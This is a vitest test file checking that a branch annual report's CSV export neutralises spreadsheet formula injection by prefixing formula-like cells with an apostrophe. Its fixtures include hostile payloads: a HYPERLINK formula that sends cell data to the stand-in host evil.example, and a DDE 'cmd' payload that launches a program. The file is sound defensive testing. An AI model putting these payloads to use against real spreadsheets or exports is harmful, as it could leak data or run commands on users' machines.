/**
 * The exported CSV neutralises spreadsheet formulas: no cell of the annual report's CSV starts with
 * = + - @ (or a tab or carriage return) unquoted-and-unprefixed, whatever the records say. The CSV
 * carries figures, not record text — so records titled "=HYPERLINK(…)" do not reach it at all — and
 * where text does reach a cell (labels, presentations), a formula-looking one is prefixed with '.
 */
import { Reports } from "@bishui/services"
import * as Seed from "@bishui/services/seed"
import { Effect } from "effect"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { toCsv } from "../../src/server/reports.ts"
import { type InProcess, startInProcess } from "./support/inProcess.ts"

const formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
const dangerous = /^[=+\-@\t\r]/

/** RFC 4180 cells of a CSV text (quoted cells unquoted), row by row. */
const parseCsv = (text: string): Array<Array<string>> => {
  const rows: Array<Array<string>> = []
  let row: Array<string> = []
  let cell = ""
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ",") {
      row.push(cell)
      cell = ""
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ""
      i++
    } else cell += c
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell])
  return rows
}

let api: InProcess
let admin: string
beforeAll(async () => {
  api = await startInProcess()
  admin = await api.token({ role: "admin" })
})
afterAll(() => api?.dispose())

describe("the annual report CSV", () => {
  it("carries no formula from a record titled '=…' and no cell that starts a formula", async () => {
    const event = await api.request("POST", "/v1/events", {
      token: admin,
      body: {
        branchId: Seed.seedBranchId,
        category: "litter_clearing",
        title: formula,
        date: "2023-06-01",
        links: { zoneId: "zone-nh-01" },
        participantIds: [],
        outcomes: [{ quantity: { _tag: "Litter", kilograms: "12" } }]
      }
    })
    expect(event.status, event.text).toBe(201)
    const wish = await api.request("POST", "/v1/wishes", {
      token: admin,
      body: {
        branchId: Seed.seedBranchId,
        communityId: "community-zhongxing",
        title: "+SUM(1,2)",
        beneficiary: "@A1",
        postedAt: "2023-03-01T02:00:00.000Z"
      }
    })
    expect(wish.status, wish.text).toBe(201)
    const branch = await api.request("POST", "/v1/organisations", {
      token: admin,
      body: {
        _tag: "StandingBranch",
        name: "=cmd|' /C calc'!A0",
        parentId: "partygroup-siping-water",
        honours: []
      }
    })
    expect(branch.status, branch.text).toBe(201)

    for (const branchId of [Seed.seedBranchId, branch.body.data.id as string]) {
      const csv = await api.request("GET", `/v1/branches/${branchId}/reports/annual/2023/csv`, {
        token: admin
      })
      expect(csv.status).toBe(200)
      expect(csv.headers.get("content-type")).toMatch(/^text\/csv/)
      const text = csv.text.replace(/^\uFEFF/, "")
      expect(text).not.toContain("HYPERLINK")
      expect(text).not.toContain("cmd|")
      const cells = parseCsv(text).flat()
      expect(cells.length).toBeGreaterThan(10)
      expect(cells.filter((cell) => dangerous.test(cell))).toEqual([])
    }
  })

  it("prefixes with ' every cell whose text would start a formula", async () => {
    const report = await api.runtime.runPromise(
      Effect.flatMap(Reports.Reports, (reports) =>
        reports.annualBranchReport(Seed.seedTenantId, Seed.seedBranchId, 2023)
      )
    )
    const hostile = ["=1+2", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", formula]
    const figures = report.figures.map((figure, index) => ({
      ...figure,
      label: {
        zh: hostile[index % hostile.length] as string,
        en: hostile[(index + 1) % hostile.length] as string
      },
      exact: hostile[(index + 2) % hostile.length] as string,
      presented: hostile[(index + 3) % hostile.length] as string
    }))
    const rows = parseCsv(toCsv({ ...report, figures }).replace(/^\uFEFF/, ""))
    const cells = rows.slice(1).flatMap((row) => row.slice(1, 3).concat(row.slice(4, 6)))
    expect(cells.length).toBe(figures.length * 4)
    for (const cell of cells) {
      expect(cell.startsWith("'"), JSON.stringify(cell)).toBe(true)
      expect(hostile).toContain(cell.slice(1))
    }
  })
})
